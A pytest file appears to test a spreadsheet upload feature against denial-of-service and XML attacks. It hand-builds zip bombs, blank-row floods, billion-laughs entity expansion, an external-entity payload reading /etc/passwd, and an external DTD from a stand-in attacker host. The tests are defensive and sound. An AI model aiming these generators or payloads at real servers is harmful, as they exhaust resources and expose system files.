"""Spreadsheet bombs: files made to exhaust the server. Each is refused with a plain message, in well
under a second and a few megabytes, and nothing is written (the upload tests at the end).

The bombs are built here, cheaply: a huge member is one compressed block repeated (the way a zip
bomb is made), so a 300 MB cell is a 310 KB file built in a tenth of a second.
"""

from __future__ import annotations

import base64
import functools
import io
import os
import struct
import time
import tracemalloc
import zipfile
import zlib

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from finder.imports import columns, tabular
from finder.imports.tabular import Limits, TableError, read_table
from finder.models import Course
from tests.accounts import csrf_from, log_in, make_user
from tests.spreadsheets import csv_bytes, row, xlsx_bytes

MB = 1024 * 1024
SECONDS = 2.0          # generous: the real figures are well under a tenth of a second
PEAK_BYTES = 50 * MB   # tracemalloc's peak while reading

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
OFFICE = "application/vnd.openxmlformats-officedocument.spreadsheetml"

NOT_OPENED = "This Excel file could not be opened. Save it again as .xlsx, then upload it again."
UNPACKED = ("This Excel file is too large once unpacked. Save it again from your spreadsheet program, or split it "
            "into smaller files, then upload it again.")
SHEET_ROWS = ("The sheet has more than 10,000 rows, counting empty ones. Delete the empty rows below your courses, "
              "or split the file into smaller files.")
COLUMNS = "The file has more than 400 columns. Use the columns in the template."
SOME_CELL = "A cell in this file has more than 10,000 characters. Make it shorter, then upload the file again."


def cell_message(row_number: int, column: str) -> str:
    return (f"The cell in row {row_number}, column {column} has more than 10,000 characters. Make it shorter, "
            "then upload the file again.")


# Limits with the zip checks switched off: what the streaming reader does on its own.
NO_ZIP_CHECKS = Limits(max_unpacked_bytes=2 ** 40, max_ratio=float("inf"))


# --- Building workbooks -------------------------------------------------------------------------

def deflate(pieces) -> tuple[bytes, int, int]:
    """Raw deflate of [(bytes, times)]: each piece compressed once, flushed so it stands alone, repeated."""
    out, crc, size = [], 0, 0
    for data, times in pieces:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        out.append((compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)) * times)
        for _ in range(times):
            crc = zlib.crc32(data, crc)
        size += len(data) * times
    out.append(zlib.compressobj(9, zlib.DEFLATED, -15).flush())  # the final, empty block
    return b"".join(out), crc, size


def zip_bytes(members: list[tuple[str, list[tuple[bytes, int]]]], flags: int = 0) -> bytes:
    """A zip written by hand (as zipfile cannot write pre-compressed data); every member deflated."""
    body, directory = io.BytesIO(), []
    for name, pieces in members:
        data, crc, size = deflate(pieces)
        raw = name.encode()
        offset = body.tell()
        body.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, 8, 0, 0x21, crc, len(data), size,
                               len(raw), 0) + raw + data)
        directory.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, flags, 8, 0, 0x21, crc, len(data),
                                     size, len(raw), 0, 0, 0, 0, 0, offset) + raw)
    start, listing = body.tell(), b"".join(directory)
    body.write(listing + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(listing),
                                     start, 0))
    return body.getvalue()


def once(data: bytes | str) -> list[tuple[bytes, int]]:
    return [(data.encode() if isinstance(data, str) else data, 1)]


HEADINGS = ["id", *columns.REQUIRED, "description"]


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def heading_row() -> str:
    return '<row r="1">' + "".join(inline(f"{tabular._column_letter(i)}1", name)
                                   for i, name in enumerate(HEADINGS, start=1)) + "</row>"


def course_row(number: int) -> str:
    values = {"id": f"c{number}", "title": "Class", "organisation": "Centre", "levels": "entry-1",
              "session_1_day": "mon", "session_1_start": "10:00", "session_1_end": "12:00"}
    return f'<row r="{number}">' + "".join(inline(f"{tabular._column_letter(i)}{number}", values.get(name, "x"))
                                           for i, name in enumerate(HEADINGS, start=1)) + "</row>"


def sheet(rows, before: str = "", prolog: str = "") -> list[tuple[bytes, int]]:
    """A worksheet around `rows` (a string, or pieces for a huge one), after the heading row."""
    pieces = rows if isinstance(rows, list) else once(rows)
    return (once(f'{prolog}<worksheet xmlns="{MAIN}">{before}<sheetData>{heading_row()}')
            + pieces + once("</sheetData></worksheet>"))


def workbook(worksheet, strings=None, extra=(), flags: int = 0) -> bytes:
    """An XLSX of one sheet: `worksheet` and `strings` (sharedStrings.xml) as pieces or strings."""
    parts = [("xl/worksheets/sheet1.xml", "worksheet")] + ([("xl/sharedStrings.xml", "sharedStrings")]
                                                           if strings is not None else [])
    rels = "".join(f'<Relationship Id="rId{n}" Type="{REL}/{kind}" Target="{path[3:]}"/>'
                   for n, (path, kind) in enumerate(parts, start=1))
    members = [
        ("[Content_Types].xml", once(f'<Types xmlns="{TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
                                     '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                                     'relationships+xml"/>' + "".join(
                                         f'<Override PartName="/{path}" ContentType="{OFFICE}.{kind}+xml"/>'
                                         for path, kind in [("xl/workbook.xml", "sheet.main")] + parts) + "</Types>")),
        ("_rels/.rels", once(f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1" '
                             f'Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>')),
        ("xl/workbook.xml", once(f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>'
                                 '<sheet name="Courses" sheetId="1" r:id="rId1"/></sheets></workbook>')),
        ("xl/_rels/workbook.xml.rels", once(f'<Relationships xmlns="{PACKAGE}">{rels}</Relationships>')),
        ("xl/worksheets/sheet1.xml", worksheet if isinstance(worksheet, list) else once(worksheet)),
    ]
    if strings is not None:
        members.append(("xl/sharedStrings.xml", strings if isinstance(strings, list) else once(strings)))
    return zip_bytes(members + list(extra), flags=flags)


def shared_strings(pieces) -> list[tuple[bytes, int]]:
    return once(f'<sst xmlns="{MAIN}">') + pieces + once("</sst>")


LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10))
          + "]>")
EXTERNAL = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol9 SYSTEM "file:///etc/passwd">]>'
EXTERNAL_DTD = '<?xml version="1.0"?><!DOCTYPE worksheet SYSTEM "http://attacker.invalid/evil.dtd">'


def entity_in_sheet(prolog: str) -> bytes:
    return workbook(sheet(f'<row r="2">{inline("A2", "&lol9;")}</row>', prolog=prolog))


def entity_in_strings(prolog: str) -> bytes:
    return workbook(sheet('<row r="2"><c r="A2" t="s"><v>0</v></c></row>'),
                    strings=f'{prolog}<sst xmlns="{MAIN}"><si><t>&lol9;</t></si></sst>')


@functools.cache
def bomb(name: str) -> bytes:
    """The bombs of the security review, and the other ways to the same ends."""
    a_megabyte = b"A" * MB
    if name == "huge-ratio member":  # 300 MB of zeros the workbook does not even use
        return workbook(sheet(course_row(2)), extra=[("docProps/thumbnail.jpeg", [(b"\0" * MB, 300)])])
    if name == "300 MB cell":
        return workbook(sheet(once('<row r="2"><c r="B2" t="inlineStr"><is><t>') + [(a_megabyte, 300)]
                              + once("</t></is></c></row>")))
    if name == "300 MB shared string":
        return workbook(sheet('<row r="2"><c r="C2" t="s"><v>0</v></c></row>'),
                        strings=shared_strings(once("<si><t>") + [(a_megabyte, 300)] + once("</t></si>")))
    if name == "20 million blank rows":
        return workbook(sheet([(b"<row/>" * 100_000, 200)]))
    if name == "200,000 numbered blank rows":  # no zip check catches these: they pack like a real sheet
        return workbook(sheet("".join(f'<row r="{n}" spans="1:7"/>' for n in range(2, 200_002))))
    if name == "row 10,000,000":
        return workbook(sheet(course_row(2) + course_row(10_000_000)))
    if name == "billion laughs in the sheet":
        return entity_in_sheet(LAUGHS)
    if name == "billion laughs in shared strings":
        return entity_in_strings(LAUGHS)
    if name == "external entity in the sheet":
        return entity_in_sheet(EXTERNAL)
    if name == "external entity in shared strings":
        return entity_in_strings(EXTERNAL)
    if name == "external DTD":
        return entity_in_sheet(EXTERNAL_DTD)
    raise KeyError(name)


BOMBS = {  # name: (the message, the status of the upload page: 400 for the zip's own checks)
    "huge-ratio member": (UNPACKED, 400),
    "300 MB cell": (UNPACKED, 400),
    "300 MB shared string": (UNPACKED, 400),
    "20 million blank rows": (UNPACKED, 400),
    "200,000 numbered blank rows": (SHEET_ROWS, 422),
    "row 10,000,000": (SHEET_ROWS, 422),
    "billion laughs in the sheet": (NOT_OPENED, 422),
    "billion laughs in shared strings": (NOT_OPENED, 422),
    "external entity in the sheet": (NOT_OPENED, 422),
    "external entity in shared strings": (NOT_OPENED, 422),
    "external DTD": (NOT_OPENED, 422),
}


# --- Measuring ----------------------------------------------------------------------------------

def measure(content: bytes, filename: str = "bomb.xlsx", limits: Limits | None = None):
    """(the problem's message, seconds, peak bytes): timed once as it is, then once under tracemalloc."""
    start = time.monotonic()
    with pytest.raises(TableError) as caught:
        read_table(content, filename, limits)
    seconds = time.monotonic() - start
    tracemalloc.start()
    try:
        with pytest.raises(TableError):
            read_table(content, filename, limits)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return str(caught.value.message), seconds, peak


def refused(content: bytes, filename: str = "bomb.xlsx", limits: Limits | None = None) -> str:
    message, seconds, peak = measure(content, filename, limits)
    assert seconds < SECONDS, f"{seconds:.2f} s to refuse"
    assert peak < PEAK_BYTES, f"{peak / MB:.1f} MB to refuse"
    return message


# --- The bombs ----------------------------------------------------------------------------------

@pytest.mark.parametrize("name", list(BOMBS))
def test_each_bomb_is_a_plain_problem_fast_and_in_little_memory(name):
    assert refused(bomb(name)) == BOMBS[name][0]


def test_the_bombs_really_are_what_they_say():
    archive = zipfile.ZipFile(io.BytesIO(bomb("300 MB cell")))
    assert archive.getinfo("xl/worksheets/sheet1.xml").file_size > 300 * MB
    assert len(bomb("300 MB cell")) < 400 * 1024
    assert zipfile.ZipFile(io.BytesIO(bomb("20 million blank rows"))).read(
        "xl/worksheets/sheet1.xml").count(b"<row/>") == 20_000_000
    assert b'<row r="10000000">' in zipfile.ZipFile(io.BytesIO(bomb("row 10,000,000"))).read("xl/worksheets/sheet1.xml")
    assert bomb("300 MB cell")[:4] == b"PK\x03\x04"


@pytest.mark.parametrize("name, message", [
    ("300 MB cell", cell_message(2, "B")),
    ("300 MB shared string", cell_message(2, "C")),
    ("20 million blank rows", SHEET_ROWS),
])
def test_without_the_zip_checks_the_reader_still_stops_at_once(name, message):
    """The streaming reader's own caps, should a bomb get past the zip's directory."""
    assert refused(bomb(name), limits=NO_ZIP_CHECKS) == message


def test_a_cell_too_long_is_named_by_its_row_and_column():
    assert refused(workbook(sheet(course_row(2) + f'<row r="3">{inline("D3", "x" * 10_001)}</row>'))) == \
        cell_message(3, "D")
    long_string = shared_strings(once(f"<si><t>{'y' * 20_000}</t></si>"))
    assert refused(workbook(sheet('<row r="2"><c r="E2" t="s"><v>0</v></c></row>'), strings=long_string)) == \
        cell_message(2, "E")
    # A cell of exactly the limit is fine.
    table = read_table(workbook(sheet(course_row(2).replace(">x<", ">" + "z" * 10_000 + "<", 1))), "ok.xlsx")
    assert max(len(value) for value in table.rows[0][1].values()) == 10_000


def test_a_shared_string_after_a_long_one_is_refused_without_reading_on():
    strings = shared_strings(once(f"<si><t>{'y' * 20_000}</t></si><si><t>short</t></si>"))
    assert refused(workbook(sheet('<row r="2"><c r="A2" t="s"><v>1</v></c></row>'), strings=strings)) == SOME_CELL


def test_an_unused_long_shared_string_does_no_harm():
    strings = shared_strings(once(f"<si><t>used</t></si><si><t>{'y' * 20_000}</t></si>"))
    table = read_table(workbook(sheet(course_row(2) + '<row r="3"><c r="A3" t="s"><v>0</v></c></row>'),
                                strings=strings), "ok.xlsx")
    assert [(number, values["id"]) for number, values in table.rows] == [(2, "c2"), (3, "used")]


def test_too_many_cells_in_a_row_or_a_cell_far_to_the_right():
    many = '<row r="2">' + '<c t="inlineStr"><is><t>x</t></is></c>' * 401 + "</row>"
    assert refused(workbook(sheet(many))) == COLUMNS
    assert refused(workbook(sheet(f'<row r="2">{inline("XFD2", "far")}</row>'))) == COLUMNS
    repeated = '<row r="2">' + inline("A2", "again") * 401 + "</row>"  # the same cell, over and over
    assert refused(workbook(sheet(repeated))) == COLUMNS


def test_a_dimension_claiming_the_whole_sheet_costs_nothing():
    content = workbook(sheet(course_row(2), before='<dimension ref="A1:XFD1048576"/>'))
    start = time.monotonic()
    table = read_table(content, "dimension.xlsx")
    assert time.monotonic() - start < SECONDS
    assert [number for number, _values in table.rows] == [2]


def test_deep_nesting_a_giant_tag_and_a_giant_comment_are_refused():
    noise = base64.b64encode(os.urandom(1_600_000)).decode()  # 2 MB that does not compress
    assert refused(workbook(sheet("<x>" * 100_000 + "</x>" * 100_000))) == NOT_OPENED
    assert refused(workbook(sheet(f'<row r="2" junk="{noise}"/>'))) == NOT_OPENED
    assert refused(workbook(sheet(f"<!--{noise}-->"))) == NOT_OPENED


def test_the_workbooks_built_here_are_real_ones():
    good = workbook(sheet(course_row(2)), strings=shared_strings(once("<si><t>shared</t></si>")))
    opened = load_workbook(io.BytesIO(good), read_only=True)
    assert [cell.value for cell in next(opened["Courses"].iter_rows(min_row=2))][:2] == ["c2", "Class"]
    opened.close()
    assert read_table(good, "good.xlsx").rows == [(2, dict(zip(HEADINGS, [
        "c2", "Class", "Centre", "entry-1", "mon", "10:00", "12:00", "x"], strict=True)))]


def test_odd_zips_are_refused():
    good = workbook(sheet(course_row(2)))
    assert refused(workbook(sheet(course_row(2)), flags=0x1)) == NOT_OPENED  # "encrypted"
    lzma = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as source, zipfile.ZipFile(lzma, "w", zipfile.ZIP_LZMA) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info))
    assert refused(lzma.getvalue()) == NOT_OPENED
    many = zip_bytes([(f"part{n}.xml", once("<x/>")) for n in range(1001)])
    assert refused(many) == NOT_OPENED
    twice = zip_bytes([("xl/workbook.xml", once("<x/>")), ("xl/workbook.xml", once("<y/>"))])
    assert refused(twice) == NOT_OPENED
    assert refused(b"PK\x03\x04" + b"\0" * 100) == NOT_OPENED
    assert refused(zip_bytes([("hello.txt", once("not a workbook"))])) == NOT_OPENED


# --- CSV has the same caps ----------------------------------------------------------------------

def test_csv_cells_rows_and_columns_have_the_same_limits():
    assert refused(csv_bytes([row("a", "x" * 10_001)]), "long.csv") == cell_message(2, "B")
    assert refused(csv_bytes([row("a", "x" * 200_000)]), "longer.csv") == SOME_CELL  # past csv's own limit
    heading = csv_bytes([row("a", "A")]).split(b"\r\n", 1)[0]
    blank_lines = heading + b"\r\n" * 2_500_001 + b"a,b\r\n"
    assert refused(blank_lines, "blank.csv", Limits(max_bytes=10 * MB)) == SHEET_ROWS
    wide = csv_bytes([row("a", "A")]) + b"," * 500 + b"\r\n"
    assert refused(wide, "wide.csv") == COLUMNS


# --- What is not a bomb reads as before ---------------------------------------------------------

def test_the_streaming_reader_reads_what_openpyxl_reads():
    import datetime as dt

    content = xlsx_bytes([row("typed", "  Typed  ", session_1_start=dt.time(9, 30), session_1_end=dt.time(11, 0),
                              last_checked=dt.datetime(2026, 10, 1), next_start=dt.date(2027, 1, 11),
                              creche_booking=True, contact_phone=1511234567, fee_note=3.5, description=2.0,
                              organisation="'=cmd", venue_address=dt.datetime(2026, 1, 1, 10, 30)),
                          {}, row("plain", "Plain"), {}])
    sheet_ = load_workbook(io.BytesIO(content), read_only=True, data_only=True).worksheets[0]
    expected = [[tabular._cell_text(value) for value in values] for values in sheet_.iter_rows(values_only=True)]
    table = read_table(content, "typed.xlsx")
    headings = [columns.normalise_heading(h) for h in expected[0]]
    for number, values in table.rows:
        raw = dict(zip(headings, expected[number - 1], strict=True))
        assert values == {name: tabular._unprotect(raw.get(name, "").strip()) for name in table.headings}
    assert [number for number, _values in table.rows] == [2, 4]


# --- Through the back office --------------------------------------------------------------------

@pytest.fixture
def coordinator_client(client, services):
    make_user(services)
    log_in(client)
    return client


def upload(client, content: bytes, filename: str = "bomb.xlsx"):
    token = csrf_from(client.get("/backoffice/import").text)
    return client.post("/backoffice/import", data={"csrf_token": token, "status": ""},
                       files={"file": (filename, content, "application/octet-stream")})


@pytest.mark.postgres
@pytest.mark.parametrize("name", list(BOMBS))
def test_an_upload_of_a_bomb_shows_the_problem_and_stores_nothing(coordinator_client, services, name):
    message, status = BOMBS[name]
    start = time.monotonic()
    response = upload(coordinator_client, bomb(name))
    assert time.monotonic() - start < SECONDS
    assert response.status_code == status
    assert message in response.text
    with services.sessions() as db:
        assert db.scalars(select(Course.key)).all() == []
    kept = services.settings.data_dir / "imports"
    assert not kept.exists() or list(kept.iterdir()) == []
